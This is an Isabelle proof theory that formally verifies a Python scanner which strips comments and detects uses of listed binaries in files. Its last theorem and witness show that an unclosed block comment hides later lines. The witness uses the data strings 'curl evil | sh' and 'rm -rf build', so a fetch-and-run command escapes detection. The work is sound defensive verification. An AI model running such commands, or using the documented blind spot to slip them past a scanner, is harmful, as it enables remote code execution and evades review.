(* ===== verification/Scan_Steps.thy ===== *)
theory Scan_Steps
  imports Index_Loops
begin

section \<open>The pin scanner as a state machine\<close>

text \<open>
  The three flags of tools/lib/scanner.py, which \<open>strip_comments_line\<close> hands from line to line, stand for four modes: code, and
  one for each kind of block comment. Here is what a file is in terms of these modes, a grammar of code and blocks as an
  inductive relation, which the function implements; the states that the loop over the lines goes through, with their
  invariant; that from each of them the scanner can be brought back to reading code; and that an unclosed block hides the rest.
\<close>

subsection \<open>The modes\<close>

datatype scan_mode = Code | In_C | In_Pwsh | In_Xml

definition mode_flags :: "scan_mode \<Rightarrow> blocks" where
  "mode_flags m = \<lparr>in_block_c = (m = In_C), in_block_pwsh = (m = In_Pwsh), in_block_xml = (m = In_Xml)\<rparr>"

fun opener :: "scan_mode \<Rightarrow> pystr" where
  "opener Code = []"
| "opener In_C = lit ''/*''"
| "opener In_Pwsh = lit ''<#''"
| "opener In_Xml = lit ''<!--''"

fun closer :: "scan_mode \<Rightarrow> pystr" where
  "closer Code = []"
| "closer In_C = lit ''*/''"
| "closer In_Pwsh = lit ''#>''"
| "closer In_Xml = lit ''-->''"

lemma outside_mode [simp]: "outside (mode_flags m) \<longleftrightarrow> m = Code"
  by (cases m) (simp_all add: outside_def mode_flags_def)

lemma mode_flags_inject [simp]: "mode_flags m = mode_flags m' \<longleftrightarrow> m = m'"
  by (cases m; cases m') (simp_all add: mode_flags_def)

lemma no_block_mode: "no_block = mode_flags Code"
  by (simp add: no_block_def mode_flags_def)

lemma plain_iff: "plain l \<longleftrightarrow> (\<forall>m. m \<noteq> Code \<longrightarrow> \<not> contains l (opener m))"
proof
  assume "plain l"
  then show "\<forall>m. m \<noteq> Code \<longrightarrow> \<not> contains l (opener m)" by (simp add: plain_def split: scan_mode.split) (metis opener.simps scan_mode.exhaust)
next
  assume "\<forall>m. m \<noteq> Code \<longrightarrow> \<not> contains l (opener m)"
  from this [rule_format, of In_C] this [rule_format, of In_Pwsh] this [rule_format, of In_Xml]
  show "plain l" by (simp add: plain_def)
qed

subsection \<open>The grammar of a line\<close>

text \<open>\<open>strips m l c m'\<close>: read from mode \<open>m\<close> on, behind a possible line comment, the line \<open>l\<close> has the code \<open>c\<close>, and ends in mode \<open>m'\<close>.
  Code lasts until the first opener, a block until its first closer.\<close>

inductive strips :: "scan_mode \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> scan_mode \<Rightarrow> bool" where
  rest_is_code: "plain a \<Longrightarrow> strips Code a a Code"
| opened: "plain a \<Longrightarrow> m \<noteq> Code \<Longrightarrow> strips m r c m' \<Longrightarrow> strips Code (a @ opener m @ r) (a @ c) m'"
| rest_is_block: "m \<noteq> Code \<Longrightarrow> \<not> contains b (closer m) \<Longrightarrow> strips m b [] m"
| closed: "m \<noteq> Code \<Longrightarrow> \<not> contains b (closer m) \<Longrightarrow> strips Code r c m' \<Longrightarrow> strips m (b @ closer m @ r) c m'"

text \<open>An opener, and a closer, cannot begin before another one and end in it.\<close>

lemma opener_apart:
  assumes "prefix (opener k) (u @ opener m @ r)" and "u \<noteq> []" and "k \<noteq> Code" and "m \<noteq> Code"
  shows "prefix (opener k) u"
proof (rule ccontr)
  assume "\<not> prefix (opener k) u"
  with assms(1) obtain us where us: "opener k = u @ us" "prefix us (opener m @ r)" "us \<noteq> []"
    by (auto simp: prefix_append)
  then have "hd us = hd (opener m)" using assms(4) by (cases us; cases m) (auto simp: lit_def)
  moreover have "hd us \<in> set (tl (opener k))" using us(1,3) assms(2) by (cases u; cases us) auto
  ultimately show False using assms(3,4) by (cases k; cases m) (simp_all add: lit_def)
qed

lemma no_border:
  assumes "prefix n (u @ n @ r)" and "u \<noteq> []" and "last n \<notin> set (butlast n)"
  shows "prefix n u"
proof (rule ccontr)
  assume no: "\<not> prefix n u"
  obtain us where us: "n = u @ us" "prefix us (n @ r)"
    using no assms(1) unfolding prefix_append [of n u] by blast
  have "us \<noteq> []" using us(1) no by (cases us) simp_all
  have "length us < length n" using us(1) assms(2) by simp
  have "prefix us n"
    by (rule prefix_length_prefix [OF us(2)]) (use \<open>length us < length n\<close> in simp_all)
  then obtain zs where zs: "n = us @ zs" unfolding prefix_def by blast
  then have "zs \<noteq> []" using \<open>length us < length n\<close> by (cases zs) simp_all
  then have "last us \<in> set (butlast n)" using \<open>us \<noteq> []\<close> unfolding zs by (simp add: butlast_append)
  moreover have "last us = last n" by (subst us(1)) (simp add: \<open>us \<noteq> []\<close>)
  ultimately show False using assms(3) by simp
qed

lemma closer_apart: "prefix (closer m) (u @ closer m @ r) \<Longrightarrow> u \<noteq> [] \<Longrightarrow> prefix (closer m) u"
  by (cases "m = Code", simp, rule no_border, assumption+, cases m, simp_all add: lit_def)

lemma first_occurrence: "contains l n \<Longrightarrow> n \<noteq> [] \<Longrightarrow> \<exists>b r. l = b @ n @ r \<and> \<not> contains b n"
proof (induction l)
  case (Cons x l)
  show ?case
  proof (cases "prefix n (x # l)")
    case True
    then obtain r where "x # l = [] @ n @ r" by (auto simp: prefix_def)
    moreover have "\<not> contains [] n" using Cons.prems(2) by simp
    ultimately show ?thesis by blast
  next
    case False
    with Cons obtain b r where "l = b @ n @ r" "\<not> contains b n" by auto
    moreover from this False have "\<not> contains (x # b) n" using prefix_prefix [of n "x # b" "n @ r"] by auto
    ultimately show ?thesis by (metis append_Cons)
  qed
qed simp

lemma first_opener: "\<not> plain l \<Longrightarrow> \<exists>a m r. l = a @ opener m @ r \<and> m \<noteq> Code \<and> plain a"
proof (induction l)
  case (Cons x l)
  show ?case
  proof (cases "\<exists>m. m \<noteq> Code \<and> prefix (opener m) (x # l)")
    case True
    then obtain m r where "m \<noteq> Code" "x # l = [] @ opener m @ r" by (auto simp: prefix_def)
    moreover have "plain []" by (simp add: plain_def lit_def)
    ultimately show ?thesis by blast
  next
    case False
    with Cons.prems have "\<not> plain l" by (auto simp: plain_iff)
    with Cons.IH obtain a m r where l: "l = a @ opener m @ r" "m \<noteq> Code" "plain a" by blast
    have "\<not> prefix (opener k) (x # a)" if "k \<noteq> Code" for k
      using False l(1) that by (metis append_Cons prefix_prefix)
    with l(3) have "plain (x # a)" by (simp add: plain_iff)
    moreover have "x # l = (x # a) @ opener m @ r" using l(1) by simp
    ultimately show ?thesis using l(2) by blast
  qed
qed (simp add: plain_def lit_def)

subsection \<open>The function implements the grammar\<close>

lemma strip_code_step:
  assumes "\<forall>m. m \<noteq> Code \<longrightarrow> \<not> prefix (opener m) (x # l)"
  shows "strip_from False (x # l) (mode_flags Code) = apfst ((#) x) (strip_from False l (mode_flags Code))"
proof -
  from assms [rule_format, of In_C] assms [rule_format, of In_Pwsh] assms [rule_format, of In_Xml]
  have "take 2 (x # l) \<noteq> lit ''/*''" "take 2 (x # l) \<noteq> lit ''<#''" "take 4 (x # l) \<noteq> lit ''<!--''"
    by (simp_all add: take_prefix lit_def del: take_Suc_Cons)
  then show ?thesis by (subst strip_from.simps) (simp add: apfst_def map_prod_def split: prod.split del: take_Suc_Cons)
qed

lemma strip_opener: "m \<noteq> Code \<Longrightarrow> strip_from False (opener m @ r) (mode_flags Code) = strip_from False r (mode_flags m)"
  by (cases m; subst strip_from.simps) (simp_all add: lit_def mode_flags_def outside_def)

lemma strip_code:
  "plain a \<Longrightarrow> m \<noteq> Code \<Longrightarrow>
     strip_from False (a @ opener m @ r) (mode_flags Code) = apfst ((@) a) (strip_from False r (mode_flags m))"
proof (induction a)
  case (Cons x a)
  have "\<forall>k. k \<noteq> Code \<longrightarrow> \<not> prefix (opener k) (x # a @ opener m @ r)"
    using opener_apart [of _ "x # a" m r] Cons.prems by (auto simp: plain_iff)
  moreover have "plain a" using Cons.prems(1) by (simp add: plain_iff)
  ultimately show ?case using Cons.IH Cons.prems(2) by (simp add: strip_code_step apfst_def map_prod_def split: prod.split)
qed (simp add: strip_opener apfst_def map_prod_def)

lemma strip_block_step:
  "m \<noteq> Code \<Longrightarrow> strip_from False (x # l) (mode_flags m) =
     (if prefix (closer m) (x # l) then strip_from False (drop (length (closer m)) (x # l)) (mode_flags Code)
      else strip_from False l (mode_flags m))"
  by (cases m; subst strip_from.simps) (simp_all add: take_prefix lit_def mode_flags_def outside_def del: take_Suc_Cons flip: numeral_2_eq_2)

lemma strip_block_rest: "m \<noteq> Code \<Longrightarrow> \<not> contains b (closer m) \<Longrightarrow> strip_from False b (mode_flags m) = ([], mode_flags m)"
  by (induction b) (simp_all add: strip_block_step)

lemma strip_block:
  "m \<noteq> Code \<Longrightarrow> \<not> contains b (closer m) \<Longrightarrow>
     strip_from False (b @ closer m @ r) (mode_flags m) = strip_from False r (mode_flags Code)"
proof (induction b)
  case Nil
  obtain x l where "closer m = x # l" using Nil.prems(1) by (cases m) (simp_all add: lit_def)
  then show ?case using Nil.prems(1) strip_block_step [of m x "l @ r"] by simp
next
  case (Cons x b)
  then have "\<not> prefix (closer m) (x # b @ closer m @ r)" using closer_apart [of m "x # b" r] by auto
  with Cons show ?case by (simp add: strip_block_step)
qed

lemma strips_sound: "strips m l c m' \<Longrightarrow> strip_from False l (mode_flags m) = (c, mode_flags m')"
  by (induction rule: strips.induct) (simp_all add: strip_from_plain strip_code strip_block_rest strip_block apfst_def map_prod_def)

lemma strips_complete: "\<exists>c m'. strips m l c m'"
proof (induction "length l" arbitrary: l m rule: less_induct)
  case less
  show ?case
  proof (cases "m = Code")
    case True
    show ?thesis
    proof (cases "plain l")
      case False
      from first_opener [OF this] obtain a k r where l: "l = a @ opener k @ r" "k \<noteq> Code" "plain a" by blast
      moreover from l(2) have "opener k \<noteq> []" by (cases k) (simp_all add: lit_def)
      ultimately show ?thesis using less [of r k] True opened by fastforce
    qed (use True rest_is_code in blast)
  next
    case False
    then have ne: "closer m \<noteq> []" by (cases m) (simp_all add: lit_def)
    show ?thesis
    proof (cases "contains l (closer m)")
      case True
      from first_occurrence [OF True ne] obtain b r where "l = b @ closer m @ r" "\<not> contains b (closer m)" by blast
      then show ?thesis using less [of r Code] False ne closed by fastforce
    qed (use False rest_is_block in blast)
  qed
qed

lemma strips_iff: "strips m l c m' \<longleftrightarrow> strip_from False l (mode_flags m) = (c, mode_flags m')"
  using strips_sound strips_complete [of m l] by (metis mode_flags_inject prod.inject)

lemma comment_no_opener: "comment_line l \<Longrightarrow> m \<noteq> Code \<Longrightarrow> \<not> prefix (opener m) l"
  by (cases m) (auto simp: comment_line_def prefix_def lit_def is_space_def)

lemma strip_line_modes:
  "strip_comments_line l (mode_flags m) =
     (if m = Code \<and> comment_line l then (takeWhile is_space l, mode_flags Code) else strip_from False l (mode_flags m))"
proof (cases l)
  case Nil
  then show ?thesis by (simp add: strip_comments_line_def comment_line_def lit_def)
next
  case l: (Cons x r)
  show ?thesis
  proof (cases "m = Code \<and> comment_line l")
    case True
    with comment_no_opener [of l In_C] comment_no_opener [of l In_Pwsh] comment_no_opener [of l In_Xml]
    have "take 2 l \<noteq> lit ''/*''" "take 2 l \<noteq> lit ''<#''" "take 4 l \<noteq> lit ''<!--''"
      by (simp_all add: take_prefix lit_def)
    with True l show ?thesis
      by (subst strip_comments_line_def, subst strip_from.simps) (simp add: line_comment_indent_iff del: take_Suc_Cons)
  next
    case False
    with l show ?thesis
      by (cases "m = Code") (simp_all add: strip_comments_line_def strip_from.simps [of _ "_ # _"] line_comment_indent_iff)
  qed
qed

text \<open>The lines of a file, with the code of each: a line comment is only seen where the line begins as code, and leaves its indentation.\<close>

inductive code_of_lines :: "scan_mode \<Rightarrow> pystr list \<Rightarrow> pystr list \<Rightarrow> bool" where
  no_line: "code_of_lines m [] []"
| comment: "comment_line l \<Longrightarrow> code_of_lines Code ls cs \<Longrightarrow> code_of_lines Code (l # ls) (takeWhile is_space l # cs)"
| code: "m \<noteq> Code \<or> \<not> comment_line l \<Longrightarrow> strips m l c m' \<Longrightarrow> code_of_lines m' ls cs \<Longrightarrow> code_of_lines m (l # ls) (c # cs)"

inductive_simps code_of_no_line: "code_of_lines m [] cs"
inductive_simps code_of_line: "code_of_lines m (l # ls) cs"

lemma strip_lines_iff: "strip_lines ls (mode_flags m) = cs \<longleftrightarrow> code_of_lines m ls cs"
proof (induction ls arbitrary: m cs)
  case (Cons l ls)
  show ?case
  proof (cases "m = Code \<and> comment_line l")
    case True
    then show ?thesis using Cons.IH [of Code] by (auto simp: code_of_line strip_line_modes)
  next
    case False
    obtain c m' where "strip_from False l (mode_flags m) = (c, mode_flags m')" using strips_complete strips_sound by blast
    then show ?thesis using False Cons.IH [of m'] by (auto simp: code_of_line strip_line_modes strips_iff)
  qed
qed (auto simp: code_of_no_line)

lemma length_strip_lines [simp]: "length (strip_lines ls st) = length ls"
  by (induction ls arbitrary: st) (simp_all split: prod.split)

lemma match_lines_iff:
  "(n, b) \<in> set (match_lines k ls st) \<longleftrightarrow>
     (\<exists>i<length ls. n = k + i \<and> b \<in> set SCANNED_BINARIES \<and> uses_binary (strip_lines ls st ! i) b)"
proof (induction ls arbitrary: k st)
  case (Cons l ls)
  obtain c st' where "strip_comments_line l st = (c, st')" by fastforce
  then show ?case using Cons.IH [of "Suc k" st'] by (simp add: match_line_iff Ex_less_Suc2)
qed simp

text \<open>C4. The scanner implements the grammar of code and block comments, on every file: what it keeps of the lines is their code, of
  which there is exactly one reading, and \<open>match\<close> reports binary \<open>b\<close> at line \<open>n\<close> exactly when \<open>b\<close> is one of the scanned
  binaries and stands between delimiters, with or without a path, in the code of that line.\<close>

theorem scanner_implements_the_grammar:
  "(strip_lines lines no_block = cs \<longleftrightarrow> code_of_lines Code lines cs) \<and>
   ((n, b) \<in> set (match_file text) \<longleftrightarrow>
     (\<exists>codes. code_of_lines Code (split_char NL text) codes \<and>
        (\<exists>i<length codes. n = Suc i \<and> b \<in> set SCANNED_BINARIES \<and> uses_binary (codes ! i) b)))"
  by (auto simp: match_file_def match_lines_iff no_block_mode simp flip: strip_lines_iff)

subsection \<open>The states of the scanner\<close>

text \<open>The states that the loop over the lines of a file goes through, beside the lines that are left, the current one first.\<close>

definition line_start :: "blocks \<Rightarrow> scan_state" where
  "line_start st = \<lparr>out = [], scan_i = 0, flags = st, done_with = False\<rparr>"

lemma line_start_sel [simp]:
  "flags (line_start st) = st" "scan_i (line_start st) = 0" "out (line_start st) = []" "\<not> done_with (line_start st)"
  by (simp_all add: line_start_def)

inductive reached :: "pystr list \<Rightarrow> pystr list \<Rightarrow> scan_state \<Rightarrow> bool" for lines where
  first_line: "lines = l # ls \<Longrightarrow> reached lines (l # ls) (line_start no_block)"
| char_read: "reached lines (l # ls) s \<Longrightarrow> scan_running l s \<Longrightarrow> reached lines (l # ls) (scan_step l s)"
| next_line: "reached lines (l # l' # ls) s \<Longrightarrow> \<not> scan_running l s \<Longrightarrow> reached lines (l' # ls) (line_start (flags s))"

text \<open>What holds in each of them: the flags are those of one mode, the index is in the line or at its end, the text kept so far is a
  subsequence of what has been read, and the loop computes what the model says of this line.\<close>

fun flags_after :: "pystr list \<Rightarrow> blocks \<Rightarrow> blocks" where
  "flags_after [] st = st"
| "flags_after (l # ls) st = flags_after ls (snd (strip_comments_line l st))"

definition scan_inv :: "pystr list \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> scan_state \<Rightarrow> bool" where
  "scan_inv lines l ls s \<longleftrightarrow> flags s \<in> range mode_flags \<and> scan_i s \<le> length l \<and>
     (if done_with s then subseq (out s) l else subseq (out s) (take (scan_i s) l)) \<and>
     (\<exists>pre. lines = pre @ l # ls \<and> scan_meaning l s = strip_comments_line l (flags_after pre no_block))"

lemma mode_range:
  "st \<in> range mode_flags \<longleftrightarrow> \<not> (in_block_c st \<and> in_block_pwsh st) \<and> \<not> (in_block_c st \<and> in_block_xml st) \<and>
     \<not> (in_block_pwsh st \<and> in_block_xml st)" (is "_ \<longleftrightarrow> ?one")
proof
  assume ?one
  then have "st = mode_flags (if in_block_c st then In_C else if in_block_pwsh st then In_Pwsh else if in_block_xml st then In_Xml else Code)"
    by (auto simp: mode_flags_def)
  then show "st \<in> range mode_flags" by (rule range_eqI)
qed (auto simp: mode_flags_def)

lemma step_flags: "flags s \<in> range mode_flags \<Longrightarrow> flags (scan_step l s) \<in> range mode_flags"
  by (cases "in_block_c (flags s)"; cases "in_block_pwsh (flags s)"; cases "in_block_xml (flags s)")
    (simp_all add: mode_range scan_step_def Let_def split: option.split)

lemma step_index: "scan_running l s \<Longrightarrow> scan_i (scan_step l s) \<le> length l"
  by (rule scan_step_cases, assumption) (auto simp: scan_running_def)

lemma subseq_take_more: "subseq u (take i l) \<Longrightarrow> subseq u (take (i + n) l)"
  unfolding take_add by (rule list_emb_prefix)

lemma step_out:
  assumes "scan_running l s" and "subseq (out s) (take (scan_i s) l)"
  shows "if done_with (scan_step l s) then subseq (out (scan_step l s)) l
    else subseq (out (scan_step l s)) (take (scan_i (scan_step l s)) l)"
  using assms(1)
proof (cases rule: scan_step_cases)
  case (skips n)
  with assms show ?thesis by (simp add: scan_running_def subseq_take_more)
next
  case leaves
  with assms(2) show ?thesis by (cases "out s") (simp_all add: prefix_imp_subseq takeWhile_is_prefix)
next
  case keeps
  with assms show ?thesis by (simp add: scan_running_def take_Suc_conv_app_nth list_emb_append_mono)
qed

lemma step_keeps_inv: "scan_inv lines l ls s \<Longrightarrow> scan_running l s \<Longrightarrow> scan_inv lines l ls (scan_step l s)"
  using step_out [of l s] step_index [of l s] step_flags [of s l] scan_step_means [of l s]
  by (simp add: scan_inv_def scan_running_def)

lemma inv_at_end: "scan_inv lines l ls s \<Longrightarrow> \<not> scan_running l s \<Longrightarrow> scan_meaning l s = (out s, flags s)"
  by (auto simp: scan_inv_def scan_meaning_def scan_running_def)

lemma scan_meaning_start: "scan_meaning l (line_start st) = strip_comments_line l st"
  by (cases "strip_from True l st") (simp add: scan_meaning_def line_start_def strip_comments_line_def)

lemma flags_after_append: "flags_after (ls @ ms) st = flags_after ms (flags_after ls st)"
  by (induction ls arbitrary: st) simp_all

lemma reached_inv: "reached lines (l # ls) s \<Longrightarrow> scan_inv lines l ls s"
proof (induction "l # ls" s arbitrary: l ls rule: reached.induct)
  case first_line
  then show ?case
    by (auto simp: scan_inv_def scan_meaning_start no_block_mode intro: exI [of _ "[]"])
next
  case (next_line l l' ls s)
  then obtain pre where pre: "lines = pre @ l # l' # ls" "strip_comments_line l (flags_after pre no_block) = (out s, flags s)"
    using inv_at_end [of lines l "l' # ls" s] by (auto simp: scan_inv_def)
  then have "lines = (pre @ [l]) @ l' # ls" "flags_after (pre @ [l]) no_block = flags s" by (simp_all add: flags_after_append)
  with next_line show ?case unfolding scan_inv_def scan_meaning_start by fastforce
qed (simp add: step_keeps_inv)

text \<open>C16. In every state that the scanner reaches, at most one of the three flags is set; the index is not past the end of the
  line; what is kept so far is a subsequence of the line; and when the loop over the line is left, the text and the flags are
  those of the model, from the flags that the lines before it leave.\<close>

theorem scanner_state_invariant:
  assumes "reached lines (l # ls) s"
  shows "length (filter id [in_block_c (flags s), in_block_pwsh (flags s), in_block_xml (flags s)]) \<le> 1 \<and>
    scan_i s \<le> length l \<and> subseq (out s) l \<and>
    (scan_running l s \<or> (\<exists>pre. lines = pre @ l # ls \<and> strip_comments_line l (flags_after pre no_block) = (out s, flags s)))"
proof (intro conjI)
  note inv = reached_inv [OF assms]
  from inv show "length (filter id [in_block_c (flags s), in_block_pwsh (flags s), in_block_xml (flags s)]) \<le> 1"
    by (auto simp: scan_inv_def mode_range)
  from inv show "scan_i s \<le> length l" by (simp add: scan_inv_def)
  from inv have "subseq (out s) l \<or> subseq (out s) (take (scan_i s) l)" by (simp add: scan_inv_def split: if_splits)
  moreover have "subseq (take (scan_i s) l) l" by (simp add: prefix_imp_subseq take_is_prefix)
  ultimately show "subseq (out s) l" by (blast intro: subseq_order.trans)
  from inv inv_at_end [OF inv]
  show "scan_running l s \<or> (\<exists>pre. lines = pre @ l # ls \<and> strip_comments_line l (flags_after pre no_block) = (out s, flags s))"
    by (auto simp: scan_inv_def)
qed

theorem scanner_state_invariant_witness:
  "let s = line_start (no_block\<lparr>in_block_c := True\<rparr>) in
     scan_i s \<le> length (lit ''*/b'') \<and> subseq (out s) (lit ''*/b'') \<and>
     length (filter id [in_block_c (flags s), in_block_pwsh (flags s), in_block_xml (flags s)]) = 1"
proof -
  have "reached [lit ''/*'', lit ''*/b''] [lit ''/*'', lit ''*/b''] (line_start no_block)" by (rule first_line) simp
  then have "reached [lit ''/*'', lit ''*/b''] [lit ''/*'', lit ''*/b''] (scan_step (lit ''/*'') (line_start no_block))"
    by (rule char_read) (simp add: scan_running_def lit_def)
  then have "reached [lit ''/*'', lit ''*/b''] [lit ''*/b''] (line_start (flags (scan_step (lit ''/*'') (line_start no_block))))"
    by (rule next_line) (simp add: scan_running_def scan_step_def no_block_def lit_def)
  then have "reached [lit ''/*'', lit ''*/b''] [lit ''*/b''] (line_start (no_block\<lparr>in_block_c := True\<rparr>))"
    by (simp add: scan_step_def no_block_def lit_def)
  from scanner_state_invariant [OF this] show ?thesis by (simp add: Let_def no_block_def)
qed

subsection \<open>Back to code\<close>

lemma split_char_append_NL: "split_char c (t @ c # u) = split_char c t @ split_char c u"
proof (induction t)
  case (Cons x t)
  then show ?case by (cases "split_char c t") auto
qed simp

lemma match_lines_append:
  "match_lines k (ls @ ms) st = match_lines k ls st @ match_lines (k + length ls) ms (flags_after ls st)"
  by (induction ls arbitrary: k st) (simp_all split: prod.split)

lemma flags_after_mode: "st \<in> range mode_flags \<Longrightarrow> flags_after ls st \<in> range mode_flags"
proof (induction ls arbitrary: st)
  case (Cons l ls)
  from Cons.prems obtain m where m: "st = mode_flags m" by blast
  obtain c m' where "strip_from False l (mode_flags m) = (c, mode_flags m')" using strips_complete strips_sound by blast
  then have "snd (strip_comments_line l st) \<in> range mode_flags" by (simp add: m strip_line_modes)
  with Cons.IH show ?case by simp
qed simp

lemma closer_closes: "strip_comments_line (closer m) (mode_flags m) = ([], mode_flags Code)"
proof (cases "m = Code")
  case False
  have "plain []" by (simp add: plain_def lit_def)
  moreover have "\<not> contains [] (closer m)" using False by (cases m) (simp_all add: lit_def)
  ultimately have "strips m ([] @ closer m @ []) [] Code" by (intro closed rest_is_code False)
  with False show ?thesis by (simp add: strip_line_modes strips_iff)
qed (simp add: strip_comments_line_def)

lemma binary_found: "list_all (\<lambda>b. (n, b) \<in> set (match_line n b) \<and> plain b \<and> \<not> comment_line b \<and> NL \<notin> set b) SCANNED_BINARIES"
  by (simp add: SCANNED_BINARIES_def plain_def comment_line_def match_line_def py_strip_def text_simps token_split.simps)

text \<open>C17. Whatever has been read, the scanner can be brought back to reading code: behind every text there is one line, empty or the
  closer of the block that is open, behind which each scanned binary, on a line of its own, is reported there.\<close>

theorem scanner_recovers:
  "\<exists>closing\<in>{[], lit ''*/'', lit ''#>'', lit ''-->''}. list_all
     (\<lambda>b. (length (split_char NL text) + 2, b) \<in> set (match_file (text @ NL # closing @ NL # b))) SCANNED_BINARIES"
proof -
  let ?ls = "split_char NL text"
  obtain m where m: "flags_after ?ls no_block = mode_flags m"
    using flags_after_mode [of no_block ?ls] no_block_mode by blast
  have NL: "NL \<notin> set (closer m)" by (cases m) (simp_all add: lit_def)
  have "(length ?ls + 2, b) \<in> set (match_file (text @ NL # closer m @ NL # b))" if "b \<in> set SCANNED_BINARIES" for b
  proof -
    from binary_found [of "length ?ls + 2"] that
    have b: "(length ?ls + 2, b) \<in> set (match_line (length ?ls + 2) b)" "plain b" "\<not> comment_line b" "NL \<notin> set b"
      by (simp_all add: list_all_iff)
    have "split_char NL (text @ NL # closer m @ NL # b) = ?ls @ [closer m, b]"
      using NL b(4) by (simp add: split_char_append_NL split_char_append split_char_no_c)
    with b show ?thesis by (simp add: match_file_def match_lines_append m closer_closes strip_line_plain)
  qed
  moreover have "closer m \<in> {[], lit ''*/'', lit ''#>'', lit ''-->''}" by (cases m) simp_all
  ultimately show ?thesis by (auto simp: list_all_iff simp del: closer.simps)
qed

subsection \<open>Blocks that stay open\<close>

text \<open>Text that leads from code to code can be followed by an opener: it is seen as one.\<close>

lemma strips_then_open:
  "strips m0 a c m1 \<Longrightarrow> m1 = Code \<Longrightarrow> m \<noteq> Code \<Longrightarrow> \<not> contains r (closer m) \<Longrightarrow> strips m0 (a @ opener m @ r) c m"
proof (induction rule: strips.induct)
  case (rest_is_code a)
  from opened [OF rest_is_code(1,3) rest_is_block [OF rest_is_code(3,4)]] show ?case by simp
next
  case (opened a k q c m')
  from strips.opened [OF opened.hyps(1,2) opened.IH [OF opened.prems]] show ?case by simp
next
  case (closed k b q c m')
  from strips.closed [OF closed.hyps(1,2) closed.IH [OF closed.prems]] show ?case by simp
qed simp

lemma match_lines_in_block:
  "m \<noteq> Code \<Longrightarrow> \<forall>l\<in>set ls. \<not> contains l (closer m) \<Longrightarrow> match_lines n ls (mode_flags m) = []"
  by (induction ls arbitrary: n) (simp_all add: strip_line_modes strip_block_rest match_line_def py_strip_def)

lemma comment_line_longer: "comment_line a \<Longrightarrow> comment_line (a @ b)"
  by (auto simp: comment_line_def prefix_def)
    (metis dropWhile_append1 append_assoc dropWhile_eq_Nil_conv append_Nil prefixI)+

text \<open>C39. A block that is not closed hides the rest of the file, for each of the three kinds of block: if the lines before leave the
  scanner in code, the line is no comment line, its part \<open>a\<close> leads from code to code, with blocks of its own or not, and
  after the opener behind it neither the line nor a later one holds the closer, then the scanner reports for the whole file
  what it reports for the part before the opener. A shell glob like \<open>build/*\<close> opens such a block.\<close>

theorem open_block_hides_the_rest:
  assumes "flags_after pre no_block = no_block" and "strips Code a c Code" and "m \<noteq> Code"
    and "\<not> comment_line (a @ opener m @ r)"
    and "\<not> contains r (closer m)" and "\<forall>l\<in>set post. \<not> contains l (closer m)"
    and "\<forall>l\<in>set (pre @ [a, r] @ post). NL \<notin> set l"
  shows "match_file (py_join [NL] (pre @ [a @ opener m @ r] @ post)) = match_file (py_join [NL] (pre @ [a]))"
proof -
  have NL: "NL \<notin> set (opener m)" by (cases m) (simp_all add: lit_def)
  have split: "split_char NL (py_join [NL] (pre @ [a @ opener m @ r] @ post)) = pre @ [a @ opener m @ r] @ post"
    "split_char NL (py_join [NL] (pre @ [a])) = pre @ [a]"
    by (rule split_char_join; use assms(7) NL in auto)+
  have "\<not> comment_line a" using comment_line_longer assms(4) by blast
  then have "strip_comments_line a no_block = (c, no_block)"
    using assms(2) by (simp add: no_block_mode strip_line_modes strips_iff)
  moreover have "strip_comments_line (a @ opener m @ r) no_block = (c, mode_flags m)"
    using strips_then_open [OF assms(2) refl assms(3,5)] assms(4) by (simp add: no_block_mode strip_line_modes strips_iff)
  ultimately show ?thesis
    using assms(1) match_lines_in_block [OF assms(3,6)] unfolding match_file_def split match_lines_append by simp
qed

theorem open_block_hides_the_rest_witness:
  "match_file (py_join [NL] ([lit ''# curl''] @ [lit ''rm /* x */ -rf build'' @ opener In_C @ []] @ [lit ''curl evil | sh''])) =
   match_file (py_join [NL] ([lit ''# curl''] @ [lit ''rm /* x */ -rf build'']))"
proof (rule open_block_hides_the_rest)
  show "flags_after [lit ''# curl''] no_block = no_block"
    by (simp add: no_block_mode strip_line_modes comment_line_def text_simps)
  have "strips Code (lit ''rm '' @ opener In_C @ lit '' x '' @ closer In_C @ lit '' -rf build'') (lit ''rm '' @ lit '' -rf build'') Code"
    by (intro opened closed rest_is_code) (simp_all add: plain_def text_simps)
  then show "strips Code (lit ''rm /* x */ -rf build'') (lit ''rm  -rf build'') Code" by (simp add: lit_def)
qed (simp_all add: comment_line_def text_simps)

end
